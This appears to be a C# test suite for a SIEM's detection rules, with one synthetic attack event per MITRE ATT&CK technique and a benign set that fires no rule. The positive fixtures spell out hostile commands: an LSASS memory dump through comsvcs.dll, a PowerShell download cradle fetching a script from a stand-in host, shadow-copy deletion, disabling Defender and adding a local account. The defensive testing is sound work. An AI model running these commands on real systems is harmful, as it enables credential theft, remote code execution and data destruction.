using Llama3Siem.Prompts.Events;
using Llama3Siem.Prompts.Knowledge;
using Llama3Siem.Prompts.Tests.Events;
using static Llama3Siem.Prompts.Tests.TestEvents;

namespace Llama3Siem.Prompts.Tests.Knowledge;

public sealed class DetectionRulesTests
{
    private const string Encoded = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA";

    /// <summary>One event (or burst) that each rule must fire on.</summary>
    public static TheoryData<string, string> Positives => new()
    {
        { "lsass-minidump-comsvcs", "T1003.001" },
        { "lsass-process-access", "T1003.001" },
        { "lsass-object-read", "T1003.001" },
        { "powershell-encoded-command", "T1059.001" },
        { "powershell-encoded-command-obfuscation", "T1027" },
        { "powershell-download-cradle", "T1105" },
        { "scheduled-task-created", "T1053.005" },
        { "service-installed", "T1543.003" },
        { "psexec-service", "T1569.002" },
        { "admin-share-service-control", "T1021.002" },
        { "admin-share-access", "T1021.002" },
        { "wmi-process-create", "T1047" },
        { "winrm-remote-session", "T1021.006" },
        { "rdp-logon", "T1021.001" },
        { "failed-logon-burst", "T1110" },
        { "discovery-whoami", "T1033" },
        { "discovery-accounts", "T1087.002" },
        { "discovery-domain-trusts", "T1482" },
        { "discovery-network-config", "T1016" },
        { "discovery-system-info", "T1082" },
        { "shadow-copy-deletion", "T1490" },
        { "event-log-cleared", "T1070.001" },
        { "local-account-created", "T1136.001" },
        { "kerberoasting-rc4-ticket", "T1558.003" },
        { "defender-disabled", "T1562.001" },
        { "mass-file-encryption", "T1486" },
        { "cloud-assumed-role-from-outside", "T1078.004" },
        { "cloud-storage-object-read", "T1530" },
        { "cloud-storage-discovery", "T1619" },
        { "ids-command-and-control", "T1071.001" },
        { "ids-exploit-public-facing", "T1190" },
    };

    [Fact]
    public void Every_rule_has_a_positive_case_here_and_names_an_active_technique()
    {
        Assert.Equal(DetectionRules.All.Select(r => r.Name).Order(), Positives.Select(p => p.Data.Item1).Order());
        Assert.All(DetectionRules.All, r => Assert.True(ThreatKnowledge.BuiltIn.TryGetActiveTechnique(r.TechniqueId, out _), r.TechniqueId));
    }

    [Theory]
    [MemberData(nameof(Positives))]
    public void Rule_fires_on_its_behaviour_and_cites_the_events(string ruleName, string techniqueId)
    {
        var rule = DetectionRules.All.Single(r => r.Name == ruleName);
        var events = PositiveEvents(ruleName);

        var support = rule.Match(events);

        Assert.Equal(techniqueId, rule.TechniqueId);
        Assert.NotEmpty(support);
        var detected = Assert.Single(DetectionRules.Detect(events), d => d.TechniqueId == techniqueId);
        Assert.Contains(ruleName, detected.Rules.Select(r => r.Id));
        Assert.All(support, e => Assert.Contains(e.Id, detected.EventIds));
    }

    [Fact]
    public void Benign_administration_fires_no_rule()
    {
        var benign = new List<SecurityEvent>
        {
            Windows("b1", "1", @"C:\Windows\System32\cmd.exe", "cmd.exe /c dir C:\\Users"),
            Windows("b2", "1", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -NoProfile -File C:\\scripts\\backup.ps1"),
            Windows("b3", "4624", fields: ("LogonType", "2")),
            Windows("b4", "4625"),
            Windows("b5", "10", fields: [("TargetImage", @"C:\Windows\system32\lsass.exe"), ("GrantedAccess", "0x1000")]),
            Windows("b6", "5140", fields: ("ShareName", @"\\*\IPC$")),
            Windows("b7", "1", @"C:\Windows\System32\sc.exe", "sc.exe query wuauserv"),
            Windows("b8", "4769", fields: [("TicketEncryptionType", "0x12"), ("ServiceName", "MSSQLSvc")]),
            Windows("b9", "11", fields: ("TargetFilename", @"C:\Users\alice\report.docx")),
            Windows("b9b", "104", fields: ("Channel", "Microsoft-Windows-PowerShell/Operational")),
            Of(EventFormats.CloudTrail, "b10", "DescribeInstances", null, ("eventSource", "ec2.amazonaws.com")),
            Of(EventFormats.SuricataEve, "b11", "alert", "ET INFO Observed DNS Query to .cloud TLD", ("alert.category", "Misc activity")),
        };

        Assert.Empty(DetectionRules.Detect(benign));
    }

    [Fact]
    public void Techniques_found_by_several_rules_are_reported_once_with_merged_evidence()
    {
        var events = new List<SecurityEvent>
        {
            Windows("x1", "1", @"C:\Windows\System32\rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t\\l.dmp full"),
            Windows("x2", "10", fields: [("TargetImage", @"C:\Windows\system32\lsass.exe"), ("GrantedAccess", "0x1FFFFF")]),
        };

        var detected = Assert.Single(DetectionRules.Detect(events));

        Assert.Equal("T1003.001", detected.TechniqueId);
        Assert.Equal(["x1", "x2"], detected.EventIds);
    }

    private static List<SecurityEvent> PositiveEvents(string rule) => rule switch
    {
        "lsass-minidump-comsvcs" => [Windows("p", "1", @"C:\Windows\System32\rundll32.exe", @"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 756 C:\Users\x\lsass.dmp full")],
        "lsass-process-access" => [Windows("p", "10", @"C:\Windows\System32\rundll32.exe", fields: [("TargetImage", @"C:\Windows\system32\lsass.exe"), ("GrantedAccess", "0x1410")])],
        "lsass-object-read" => [Windows("p", "4663", @"C:\Windows\System32\rundll32.exe", fields: ("ObjectName", @"\Device\HarddiskVolume2\Windows\System32\lsass.exe"))],
        "powershell-encoded-command" or "powershell-encoded-command-obfuscation" =>
            [Windows("p", "1", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", $"powershell -noP -sta -w 1 -enc {Encoded}")],
        "powershell-download-cradle" => [Windows("p", "4104", message: "IEX (New-Object Net.WebClient).DownloadString('http://update-cdn-check.xyz/a.ps1')")],
        "scheduled-task-created" => [Windows("p", "1", @"C:\Windows\System32\schtasks.exe", @"schtasks /create /tn Updater /tr C:\ProgramData\u.exe /sc onlogon /ru SYSTEM")],
        "service-installed" => [Windows("p", "7045", fields: ("ServiceName", "Cyb3rWard0g"))],
        "psexec-service" => [Windows("p", "7045", fields: ("ServiceName", "PSEXESVC"))],
        "admin-share-service-control" => [Windows("p", "5145", fields: [("ShareName", @"\\*\IPC$"), ("RelativeTargetName", "svcctl")])],
        "admin-share-access" => [Windows("p", "5140", fields: ("ShareName", @"\\*\ADMIN$"))],
        "wmi-process-create" => [Windows("p", "1", @"C:\Windows\System32\wbem\WMIC.exe", "wmic /node:10.0.0.5 process call create \"cmd.exe /c whoami\"")],
        "winrm-remote-session" => [Windows("p", "1", @"C:\Windows\System32\wsmprovhost.exe", "C:\\Windows\\system32\\wsmprovhost.exe -Embedding")],
        "rdp-logon" => [Windows("p", "4624", fields: ("LogonType", "10"))],
        "failed-logon-burst" => Enumerable.Range(0, 6).Select(i => Windows($"p{i}", "4625", minute: i)).ToList(),
        "discovery-whoami" => [Windows("p", "1", @"C:\Windows\System32\whoami.exe", "whoami /priv")],
        "discovery-accounts" => [Windows("p", "1", @"C:\Windows\System32\net.exe", "net group \"Domain Admins\" /domain")],
        "discovery-domain-trusts" => [Windows("p", "1", @"C:\Windows\System32\nltest.exe", "nltest /domain_trusts")],
        "discovery-network-config" => [Windows("p", "1", @"C:\Windows\System32\ipconfig.exe", "ipconfig /all")],
        "discovery-system-info" => [Windows("p", "1", @"C:\Windows\System32\systeminfo.exe", "systeminfo")],
        "shadow-copy-deletion" => [Windows("p", "1", @"C:\Windows\System32\vssadmin.exe", "vssadmin.exe Delete Shadows /All /Quiet")],
        "event-log-cleared" => [Windows("p", "1102")],
        "local-account-created" => [Windows("p", "1", @"C:\Windows\System32\net.exe", "net user svc_backup P@ssw0rd1 /add")],
        "kerberoasting-rc4-ticket" => [Windows("p", "4769", fields: [("TicketEncryptionType", "0x17"), ("ServiceName", "MSSQLSvc")])],
        "defender-disabled" => [Windows("p", "4104", message: "Set-MpPreference -DisableRealtimeMonitoring $true")],
        "mass-file-encryption" => Enumerable.Range(0, 30).Select(i => Windows($"p{i}", "11", fields: ("TargetFilename", $@"C:\Shares\Finance\q{i}.xlsx.locked"))).ToList(),
        "cloud-assumed-role-from-outside" => [Of(EventFormats.CloudTrail, "p", "ListBuckets", null,
            ("eventSource", "s3.amazonaws.com"), ("userIdentity.type", "AssumedRole"),
            ("userIdentity.arn", "arn:aws:sts::123456789123:assumed-role/web-role/i-0abc"), ("userAgent", "aws-cli/2.15.0")) with { SourceAddress = "45.77.12.9" }],
        "cloud-storage-object-read" => [Of(EventFormats.CloudTrail, "p", "GetObject", null, ("eventSource", "s3.amazonaws.com"))],
        "cloud-storage-discovery" => [Of(EventFormats.CloudTrail, "p", "ListObjects", null, ("eventSource", "s3.amazonaws.com"))],
        "ids-command-and-control" => [Of(EventFormats.SuricataEve, "p", "alert", "ET MALWARE Cobalt Strike Beacon Observed", ("alert.category", "A Network Trojan was detected"))],
        "ids-exploit-public-facing" => [Of(EventFormats.SuricataEve, "p", "alert", "ET EXPLOIT Apache Log4j RCE Attempt (CVE-2021-44228)", ("alert.category", "Attempted Administrator Privilege Gain"))],
        _ => throw new ArgumentOutOfRangeException(nameof(rule), rule, "no positive case"),
    };

    [Fact]
    public void Detecting_over_the_shipped_samples_equals_every_rule_run_on_its_own()
    {
        var parser = EventParsing.Parser();
        var events = RepositoryFiles.Lines(RepositoryFiles.Sample("events.jsonl")).Select(line => parser.Parse(line).Event!).ToList();

        // Outside Detect, each rule derives the event codes and texts afresh: the reference for Detect's shared facts.
        var expected = DetectionRules.All
            .Select(rule => (Rule: rule, Support: rule.Match(events)))
            .Where(found => found.Support.Count > 0)
            .GroupBy(found => found.Rule.TechniqueId)
            .OrderBy(group => group.Key, StringComparer.Ordinal)
            .Select(group => (
                group.Key,
                string.Join(',', group.Select(found => found.Rule.Name)),
                string.Join(',', group.SelectMany(found => found.Support.Select(e => e.Id)).Distinct().Order(StringComparer.Ordinal))))
            .ToList();

        var detected = DetectionRules.Detect(events);

        Assert.NotEmpty(expected);
        Assert.Equal(expected, detected.Select(t => (t.TechniqueId, string.Join(",", t.Rules.Select(r => r.Id)), string.Join(',', t.EventIds))).ToList());
    }
}
